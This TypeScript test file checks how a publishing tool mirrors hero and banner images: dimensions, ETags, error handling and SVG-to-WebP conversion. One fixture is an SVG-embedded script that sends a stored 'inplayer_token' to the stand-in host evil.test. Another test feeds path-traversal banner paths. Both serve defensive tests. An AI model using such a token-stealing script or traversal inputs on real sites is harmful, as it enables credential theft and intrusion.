import { mkdtempSync, readdirSync, readFileSync, rmSync, truncateSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { basename, join } from 'node:path'
import { DatabaseSync } from 'node:sqlite'
import sharp from 'sharp'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { recordsOf } from '#publishing/content-db/records.ts'
import { openSnapshot } from '#publishing/content-db/snapshot.ts'
import { clearChanges } from '#publishing/content-db/snapshot-changes.ts'
import { linkPictures } from '#publishing/site/pictures.ts'
import { SiteEdit } from '#publishing/site/site-edit.ts'
import { openSiteStore } from '#publishing/site/site-store.ts'
import { ingestSentences } from '../support/ingest-sentences.ts'
import { startTinyPlatform } from '../support/tiny-platform.ts'

const film = (mediaid: string) => ({ mediaid, title: mediaid })
const picture = (width: number, height: number, inside = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}"><circle r="20" fill="red"/>${inside}</svg>`
const background = (id: string, width: number) =>
  `/v2/media/${id}/images/background.webp?poster_fallback=1&width=${width}`

const folder = mkdtempSync(join(tmpdir(), 'foyer-images-'))
const file = join(folder, 'snapshot.sqlite')
let remote: Awaited<ReturnType<typeof startTinyPlatform>>

beforeAll(async () => {
  remote = await startTinyPlatform({
    '/v2/playlists/films001?page_limit=500&page_offset=1': { playlist: [film('film0001'), film('film0002')] },
    [background('film0001', 640)]: picture(640, 360),
    [background('film0001', 1280)]: picture(1280, 720),
    '/banner.svg': picture(300, 60),
  })
  remote.responses['/apps/configs/demo0001.json'] = {
    description: '',
    siteId: 'site0001',
    assets: { banner: `${remote.url}/banner.svg` },
    content: [{ type: 'playlist', contentId: 'films001' }],
  }
})
afterAll(async () => {
  await remote.close()
  rmSync(folder, { recursive: true })
})

const ingestNow = (options: { mirrorLimit?: number } = {}) =>
  ingestSentences({
    ...options,
    site: { configSource: 'demo0001', platform: remote.url, siteUrl: 'http://127.0.0.1' },
    file,
    fetchOptions: { backoffMs: 5, retries: 1 },
  })
const heroNow = () => {
  const snapshot = openSnapshot(file, { readOnly: true })
  const { hero, site } = recordsOf(snapshot)
  const found = { hero: hero('film0001'), none: hero('film0002'), banner: site().banner }
  snapshot.close()
  return found
}

it("an ingest copies hero images and the banner to the site's origin and stores their dimensions", async () => {
  const { warnings } = await ingestNow()
  const { hero, none, banner } = heroNow()
  expect(hero?.map(({ width, height }) => [width, height])).toEqual([
    [640, 360],
    [1280, 720],
  ])
  expect(hero?.[0]?.src).toMatch(/^\/_images\/[\da-f]{20}\.webp$/)
  expect(banner).toMatchObject({ width: 300, height: 60 })
  expect(none).toEqual([])
  expect(warnings).toEqual(['Media without a picture on the platform: film0002'])
})

it('an item is recorded as pictureless after a 404, but not after a 500 or with a card image', async () => {
  const card = '/v2/media/film0002/images/card.webp?poster_fallback=1&width=320'
  const recorded = () => {
    const snapshot = openSnapshot(file, { readOnly: true })
    const { pictureless } = recordsOf(snapshot)
    const results = ['film0001', 'film0002'].map(pictureless)
    snapshot.close()
    return results
  }
  expect(recorded()).toEqual([false, true])
  // A 500 is no proof of a missing image
  remote.queueFault(card, { status: 500 }, { status: 500 })
  await ingestNow()
  expect(recorded()).toEqual([false, false])
  await ingestNow()
  expect(recorded()).toEqual([false, true])
  remote.responses[card] = picture(320, 180)
  await ingestNow()
  expect(recorded()).toEqual([false, false])
  delete remote.responses[card]
  await ingestNow()
})

it('a banner path of the site is used, and an unreadable banner path is omitted with a warning', async () => {
  const config = remote.responses['/apps/configs/demo0001.json']
  const bannerAt = async (banner: string) => {
    remote.responses['/apps/configs/demo0001.json'] = { ...Object(config), assets: { banner } }
    const { warnings } = await ingestNow()
    return { banner: heroNow().banner, warning: warnings.find((line) => line.startsWith('assets.banner')) }
  }
  try {
    const own = await bannerAt('/images/logo.png')
    expect(own.banner).toMatchObject({ src: expect.stringMatching(/^\/_images\/.*\.png$/), width: 472, height: 128 })
    expect(own.warning).toBeUndefined()
    expect((await bannerAt('/images/favicon.svg')).banner?.src).toMatch(/\.webp$/)
    expect((await bannerAt('/m/../images/lo%67o.png?v=2')).banner?.width).toBe(472)
    for (const unreadable of ['/images/nowhere.png', '/../package.json', '/..%2fpackage.json', '//logo.png'])
      expect(await bannerAt(unreadable)).toEqual({
        banner: undefined,
        warning: `assets.banner: there is no picture at ${unreadable}`,
      })
  } finally {
    remote.responses['/apps/configs/demo0001.json'] = config
    await ingestNow()
  }
})

it('linkPictures adds exactly the images that the pages reference to the output', async () => {
  const snapshot = openSnapshot(file, { readOnly: true })
  const out = join(folder, 'dist')
  const to = join(out, '_images')
  const store = openSiteStore(join(folder, 'site.sqlite'))
  const place = { edit: new SiteEdit(store), snapshot, from: join(folder, 'images'), out, isFull: true }
  linkPictures(place, [
    { kind: 'banner', id: '' },
    ...['film0001', 'film0002'].map((id) => ({ kind: 'hero' as const, id })),
  ])
  store.close()
  snapshot.close()
  const { hero = [], banner } = heroNow()
  expect(readdirSync(to).sort()).toEqual([...hero, banner].map((source) => basename(source?.src ?? '')).sort())
  const bytesIn = (place: string) => readFileSync(join(place, basename(hero[0]?.src ?? '')))
  expect(bytesIn(to)).toEqual(bytesIn(join(folder, 'images')))
})

it('an image that fails to download retains its stored copy, and a changed image has a new URL', async () => {
  const before = heroNow().hero
  remote.queueFault(background('film0001', 640), { status: 500 }, { status: 500 })
  remote.responses[background('film0001', 1280)] = picture(1280, 721)
  await ingestNow()
  const after = heroNow().hero
  expect(after?.[0]).toEqual(before?.[0])
  expect(after?.[1]?.height).toBe(721)
  expect(after?.[1]?.src).not.toBe(before?.[1]?.src)
})

it('an unchanged image is requested with its ETag and retained on a 304 response', async () => {
  const etag = { headers: { etag: '"one"' }, body: picture(640, 360) }
  remote.queueFault(background('film0001', 640), etag, { status: 304 })
  await ingestNow()
  await ingestNow()
  expect(remote.etags).toEqual(['"one"'])
  expect(heroNow().hero?.[0]).toMatchObject({ width: 640, height: 360 })
})

it('an image URL that returns HTML adds a warning', async () => {
  remote.responses[background('film0002', 640)] = '<html>Sorry</html>'
  expect((await ingestNow()).warnings[0]).toMatch(/^A picture could not be mirrored: .*film0002.* is no picture/)
})

it('a publisher SVG is converted to WebP, and its script is not stored on the site', async () => {
  const script = '<script>new Image().src = "//evil.test/" + localStorage.getItem("inplayer_token")</script>'
  remote.responses['/banner.svg'] = picture(300, 60, script)
  remote.responses[background('film0001', 1280)] = picture(1280, 722, script)
  await ingestNow()
  const { banner, hero } = heroNow()
  expect([banner, hero?.[1]]).toMatchObject([
    { width: 300, height: 60 },
    { width: 1280, height: 722 },
  ])
  const names = readdirSync(join(folder, 'images')).filter((name) => !name.startsWith('index.sqlite'))
  for (const name of names) {
    const bytes = readFileSync(join(folder, 'images', name))
    expect([name, bytes.includes('<script'), bytes.includes('<svg')]).toEqual([name, false, false])
  }
  const { format, width, height } = await sharp(join(folder, 'images', basename(banner?.src ?? ''))).metadata()
  expect({ format, width, height }).toEqual({ format: 'webp', width: 1280, height: 256 })
})

it('an image in a format without browser support is omitted with a warning', async () => {
  const tiff = await sharp({ create: { width: 2, height: 2, channels: 3, background: '#ff0000' } })
    .tiff()
    .toBuffer()
  remote.responses[background('film0002', 640)] = tiff
  expect((await ingestNow()).warnings[0]).toMatch(/^A picture could not be mirrored: .*film0002.* is no picture/)
  expect(heroNow().none).toEqual([])
})

it('an SVG copy stored by an older version is downloaded again and converted to WebP', async () => {
  const db = new DatabaseSync(join(folder, 'images', 'index.sqlite'))
  writeFileSync(join(folder, 'images', 'old.svg'), picture(300, 60))
  db.prepare('update image set etag = ?, file = ? where url = ?').run('"old"', 'old.svg', `${remote.url}/banner.svg`)
  db.close()
  await ingestNow()
  expect(heroNow().banner?.src).toMatch(/\.webp$/)
  expect(remote.etags).not.toContain('"old"')
})

it('a half-written copy is replaced by the whole image', async () => {
  await ingestNow()
  const copy = join(folder, 'images', basename(heroNow().hero?.[0]?.src ?? ''))
  const bytes = readFileSync(copy)
  truncateSync(copy, 10)
  const db = new DatabaseSync(join(folder, 'images', 'index.sqlite'))
  db.prepare('delete from image where file = ?').run(basename(copy))
  db.close()
  await ingestNow()
  expect(readFileSync(copy)).toEqual(bytes)
  expect(readdirSync(join(folder, 'images')).filter((name) => name.endsWith('.part'))).toEqual([])
})

it('a new item whose image requests fail has no image record and is not reported as pictureless', async () => {
  const list = '/v2/playlists/films001?page_limit=500&page_offset=1'
  const before = remote.responses[list]
  remote.responses[list] = { playlist: [film('film0001'), film('film0002'), film('film0003')] }
  const found = () => {
    const snapshot = openSnapshot(file, { readOnly: true })
    const records = recordsOf(snapshot)
    const of = { hero: records.hero('film0003'), pictureless: records.pictureless('film0003') }
    snapshot.close()
    return of
  }
  try {
    for (const width of [640, 1280]) remote.queueFault(background('film0003', width), { status: 500 }, { status: 500 })
    const { warnings } = await ingestNow()
    expect(found()).toEqual({ hero: undefined, pictureless: false })
    expect(warnings.filter((line) => line.startsWith('Media without')).join()).not.toContain('film0003')
    expect(warnings.filter((line) => /could not be mirrored.*film0003/.test(line))).toHaveLength(2)
    await ingestNow()
    expect(found()).toEqual({ hero: [], pictureless: true })
  } finally {
    remote.responses[list] = before
    await ingestNow()
  }
})

it('an image record without its file is removed, also if the limit of an ingest omits the item', async () => {
  await ingestNow()
  const { hero = [] } = heroNow()
  expect(hero).toHaveLength(2)
  for (const { src } of hero) rmSync(join(folder, 'images', basename(src)))
  await ingestNow({ mirrorLimit: 0 })
  expect(heroNow().hero).toBeUndefined()
  await ingestNow()
  expect(heroNow().hero).toEqual(hero)
})

it('ingests with a limit check the images of all media in rotation', async () => {
  await ingestNow()
  const snapshot = openSnapshot(file)
  clearChanges(snapshot)
  snapshot.close()
  const checked: string[] = []
  for (const _ of ['one', 'two', 'three']) {
    remote.requested.length = 0
    await ingestNow({ mirrorLimit: 1 })
    checked.push(...['film0001', 'film0002'].filter((id) => remote.requested.includes(background(id, 640))))
  }
  expect(checked).toEqual(['film0001', 'film0002', 'film0001'])
})
